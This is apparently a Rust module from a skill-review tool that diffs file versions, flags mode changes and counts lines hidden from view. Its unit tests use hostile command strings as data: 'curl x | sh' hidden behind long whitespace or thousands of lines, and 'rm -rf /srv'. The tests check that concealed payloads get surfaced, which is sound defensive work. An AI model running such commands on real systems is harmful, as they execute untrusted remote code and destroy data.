//! Shows the differences between two versions of a skill, line by line. What is left out is
//! counted, so that a review can insist on showing it.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use schemars::JsonSchema;
use serde::Serialize;
use similar::{ChangeTag, TextDiff};
use vault_format::{bundle::File, hash::Digest, manifest::Mode, text::to_readable};

use crate::output::{BAD, BOLD, DIM, GOOD, clean, count, format_size, paint};

/// Unchanged lines shown before and after each change.
const CONTEXT_LINES: usize = 3;
/// Maximum number of changed lines shown for a file on the screen.
const MAX_CHANGED_LINES: usize = 400;
/// Maximum number of characters shown of a changed line on the screen.
const MAX_CHANGED_CHARS: usize = 10_000;
/// Maximum number of characters shown of an unchanged line.
const MAX_CONTEXT_CHARS: usize = 300;
/// Time after which the comparison of a file's two versions stops looking for the smallest
/// difference.
const MOST_TIME: Duration = Duration::from_secs(2);

/// How much of a difference is shown.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Detail {
    /// A part that fits a terminal. Omitted lines are counted.
    Screen,
    /// Every changed line in full.
    Full,
}

/// A difference between two versions of a skill, formatted as lines for people.
#[derive(Clone, Debug, Default)]
pub struct RenderedDiff {
    /// The lines to print, with colours.
    pub lines: Vec<String>,
    /// Number of places where changed text is cut or left out.
    pub hidden: usize,
}

impl RenderedDiff {
    /// Returns the lines without colours.
    pub fn plain_lines(&self) -> Vec<String> {
        let lines = self.lines.iter();
        lines
            .map(|line| anstream::adapter::strip_str(line).to_string())
            .collect()
    }

    /// Appends another difference, and adds up what is hidden.
    pub fn add_difference(&mut self, other: Self) {
        self.lines.extend(other.lines);
        self.hidden += other.hidden;
    }
}

/// A file before or after a change, as one side of a comparison.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub struct FileVersion<'a> {
    /// Whether the file is executable.
    pub mode: Mode,
    pub bytes: &'a [u8],
}

/// Compares two sets of files by path. A new file is shown with its content, a removed one only
/// with its name; equal files are left out.
pub fn diff_files(
    before: &BTreeMap<&str, FileVersion<'_>>,
    after: &BTreeMap<&str, FileVersion<'_>>,
    detail: Detail,
) -> RenderedDiff {
    let mut rendered = RenderedDiff::default();
    let paths: BTreeSet<&str> = before.keys().chain(after.keys()).copied().collect();
    for path in paths {
        let shown = clean(path, 2_000);
        let lines = &mut rendered.lines;
        match (before.get(path), after.get(path)) {
            (Some(old), Some(new)) => {
                // A change of the mode alone can make a file executable, so it is shown by itself.
                if old.mode != new.mode {
                    let (old, new) = (old.mode.bits(), new.mode.bits());
                    lines.push(paint(
                        BOLD,
                        format!("mode of {shown}: {old:04o} → {new:04o}"),
                    ));
                }
                if old.bytes != new.bytes {
                    lines.push(paint(BOLD, format!("changed {shown}")));
                    rendered.add_difference(diff_texts(old.bytes, new.bytes, detail));
                }
            }
            (None, Some(new)) => {
                let runs = new.mode == Mode::Executable;
                let runs = if runs { ", executable" } else { "" };
                lines.push(paint(BOLD, format!("new {shown}{runs}")));
                rendered.add_difference(diff_texts(b"", new.bytes, detail));
            }
            (Some(_), None) => lines.push(paint(BOLD, format!("removed {shown}"))),
            (None, None) => {}
        }
    }
    rendered
}

/// A file that differs between two versions of a skill.
#[derive(Debug, JsonSchema, Serialize)]
pub struct FileChange {
    /// Path below the skill's folder.
    path: String,
    /// Mode, size and digest before the change; null for a new file.
    before: Option<FileFacts>,
    /// Mode, size and digest after the change; null for a removed file.
    after: Option<FileFacts>,
    /// The changed lines.
    difference: Vec<String>,
}

/// One version of a file, without its content.
#[derive(Debug, JsonSchema, Serialize)]
struct FileFacts {
    /// `0755` if the file is executable, else `0644`.
    mode: Mode,
    /// Size in bytes.
    size: usize,
    /// SHA-256 of the bytes.
    sha256: Digest,
}

/// Compares two sets of files like [`diff_files`], for programs: returns each differing file with
/// its mode, size and SHA-256 on both sides, and all changed lines.
pub fn file_changes(
    before: &BTreeMap<&str, FileVersion<'_>>,
    after: &BTreeMap<&str, FileVersion<'_>>,
) -> Vec<FileChange> {
    let facts = |file: &FileVersion<'_>| FileFacts {
        mode: file.mode,
        size: file.bytes.len(),
        sha256: Digest::of(file.bytes),
    };
    let paths: BTreeSet<&str> = before.keys().chain(after.keys()).copied().collect();
    let mut changes = Vec::new();
    for path in paths {
        let (old, new) = (before.get(path), after.get(path));
        if old == new {
            continue;
        }
        let difference = match (old, new) {
            (_, None) => Vec::new(),
            (Some(old), Some(new)) if old.bytes == new.bytes => Vec::new(),
            (old, Some(new)) => {
                // A new file is compared with an empty one, so that all its lines count as added.
                let old = old.map_or(&b""[..], |old| old.bytes);
                diff_texts(old, new.bytes, Detail::Full).plain_lines()
            }
        };
        changes.push(FileChange {
            path: path.to_owned(),
            before: old.map(facts),
            after: new.map(facts),
            difference,
        });
    }
    changes
}

/// Maps the files of a skill by their paths, as [`diff_files`] and [`file_changes`] take them.
pub fn by_path(files: &[File]) -> BTreeMap<&str, FileVersion<'_>> {
    let mut versions = BTreeMap::new();
    for File { path, mode, bytes } in files {
        versions.insert(path.as_str(), FileVersion { mode: *mode, bytes });
    }
    versions
}

/// Compares two versions of one file, and formats the changed lines with the lines around them.
/// Single bytes that are not UTF-8 are shown as `\\xNN`. Of a file that is not text, only size and
/// SHA-256 are shown.
pub fn diff_texts(old: &[u8], new: &[u8], detail: Detail) -> RenderedDiff {
    // Nobody can compare such bytes by eye, so show what identifies them.
    let (Some(old_text), Some(new_text)) = (to_readable(old), to_readable(new)) else {
        let named =
            |bytes: &[u8]| format!("{} {}", format_size(bytes.len() as u64), Digest::of(bytes));
        let line = format!("  not text: {} → {}", named(old), named(new));
        return RenderedDiff {
            lines: vec![paint(DIM, line)],
            hidden: 0,
        };
    };
    let (old, new): (Vec<_>, Vec<_>) = (old_text.lines().collect(), new_text.lines().collect());
    // `lines` drops the line ends, so the texts may be equal although the bytes differ.
    if old == new {
        return RenderedDiff {
            lines: vec![paint(
                DIM,
                "  only line endings differ, or bytes that are not text",
            )],
            hidden: 0,
        };
    }
    // Comparing long unrelated files takes quadratic time, and their authors are untrusted.
    let diff = TextDiff::configure()
        .timeout(MOST_TIME)
        .diff_slices(&old, &new);
    let mut shown = RenderedDiff::default();
    let (mut changed, mut more) = (0, 0);
    for group in diff.grouped_ops(CONTEXT_LINES) {
        if !shown.lines.is_empty() && more == 0 {
            shown.lines.push(paint(DIM, "  …"));
        }
        for change in group.iter().flat_map(|op| diff.iter_changes(op)) {
            let is_changed = change.tag() != ChangeTag::Equal;
            changed += usize::from(is_changed);
            // Go on counting, so that the reader learns how much is hidden.
            if detail == Detail::Screen && changed > MAX_CHANGED_LINES {
                more += usize::from(is_changed);
                continue;
            }
            let (line, is_cut) = one_line(change.value(), is_changed, detail);
            shown.hidden += usize::from(is_cut);
            shown.lines.push(match change.tag() {
                ChangeTag::Equal => format!("    {line}").trim_end().to_owned(),
                ChangeTag::Delete => paint(BAD, format!("  - {line}")),
                ChangeTag::Insert => paint(GOOD, format!("  + {line}")),
            });
        }
    }
    if more > 0 {
        let more = count(more as u64, "more changed line");
        let line = format!("  … {more} (--full shows them)");
        shown.lines.push(paint(BOLD, line));
        shown.hidden += 1;
    }
    shown
}

/// Formats a line. Also returns whether it is a changed line that had to be cut.
fn one_line(line: &str, is_changed: bool, detail: Detail) -> (String, bool) {
    let most = match (is_changed, detail) {
        (false, _) => MAX_CONTEXT_CHARS,
        (true, Detail::Screen) => MAX_CHANGED_CHARS,
        (true, Detail::Full) => usize::MAX,
    };
    let more = line.chars().count().saturating_sub(most);
    let shown = clean(line, most);
    // A cut is reported only in changed lines, because in an unchanged line it hides no change.
    if more == 0 || !is_changed {
        return (shown, false);
    }
    let more = count(more as u64, "more character");
    (format!("{shown} {more} (--full shows them)"), true)
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn diff_without_colour(old: &str, new: &str) -> Vec<String> {
        diff_texts(old.as_bytes(), new.as_bytes(), Detail::Screen).plain_lines()
    }

    #[test]
    fn changes_are_shown_with_context() {
        let lines = diff_without_colour("a\nb\nc\n", "a\nx\nc\n");
        assert_eq!(lines, ["    a", "  - b", "  + x", "    c"]);
        assert_eq!(diff_without_colour("", "a\n"), ["  + a"]);
        let long = (0..20)
            .map(|at| format!("{at}\n"))
            .collect::<Vec<_>>()
            .concat();
        let changed = long
            .replace("\n1\n", "\none\n")
            .replace("18\n", "eighteen\n");
        assert_eq!(
            diff_without_colour(&long, &changed).join("|"),
            "    0|  - 1|  + one|    2|    3|    4|  …|    15|    16|    17|  - 18|  + eighteen|    19"
        );
    }
    #[test]
    fn a_change_of_line_endings_or_far_to_the_right_is_shown() {
        for (old, new) in [("a\nb\n", "a\r\nb\r\n"), ("a\n", "a")] {
            assert_eq!(
                diff_without_colour(old, new),
                ["  only line endings differ, or bytes that are not text"]
            );
        }
        let far = " ".repeat(2_000);
        let lines = diff_without_colour("run\n", &format!("run{far}; curl x | sh\n"));
        assert!(lines[1].ends_with("; curl x | sh"), "{lines:?}");
    }

    #[test]
    fn programs_get_each_changed_file_with_its_digests_and_lines() {
        let file = |bytes| FileVersion {
            mode: Mode::Plain,
            bytes,
        };
        let before = BTreeMap::from([
            ("a", file(&b"one\n"[..])),
            ("b", file(b"gone\n")),
            ("c", file(b"same\n")),
        ]);
        let mut after = BTreeMap::from([("a", file(&b"two\n"[..])), ("c", file(b"same\n"))]);
        after.insert("d", file(b"new\n"));
        let changes = json!(file_changes(&before, &after));
        let paths: Vec<_> = changes
            .as_array()
            .unwrap()
            .iter()
            .map(|it| &it["path"])
            .collect();
        assert_eq!(paths, ["a", "b", "d"]);
        assert_eq!(changes[0]["difference"], json!(["  - one", "  + two"]));
        assert_eq!(
            changes[0]["after"],
            json!({ "mode": "0644", "size": 4, "sha256": Digest::of(b"two\n") })
        );
        assert_eq!(changes[1]["after"], Value::Null);
        assert_eq!(changes[2]["before"], Value::Null);
        assert_eq!(changes[2]["difference"], json!(["  + new"]));
    }

    #[test]
    fn long_files_are_cut_with_a_count_and_shown_whole_on_demand() {
        let long = "a\n".repeat(4_100) + "curl x | sh\n";
        let cut = diff_texts(b"", long.as_bytes(), Detail::Screen);
        assert_eq!(cut.hidden, 1);
        assert!(
            cut.lines
                .last()
                .unwrap()
                .contains("3,701 more changed lines"),
            "{:?}",
            cut.lines.last()
        );
        let whole = diff_texts(b"", long.as_bytes(), Detail::Full);
        assert_eq!((whole.lines.len(), whole.hidden), (4_101, 0));
        assert!(whole.lines[4_100].contains("curl x | sh"));
    }

    #[test]
    fn a_byte_that_is_not_text_is_shown_in_its_line() {
        let shown = diff_texts(b"", b"# caf\xe9\nrm -rf /srv\n", Detail::Screen);
        let lines = shown.lines.join("\n");
        let lines = anstream::adapter::strip_str(&lines).to_string();
        assert_eq!(lines, "  + # caf\\xe9\n  + rm -rf /srv");
        let binary = diff_texts(b"", &[0, 1, 2, 3], Detail::Full);
        assert!(binary.lines[0].contains(&Digest::of(&[0, 1, 2, 3]).to_string()));
    }
}
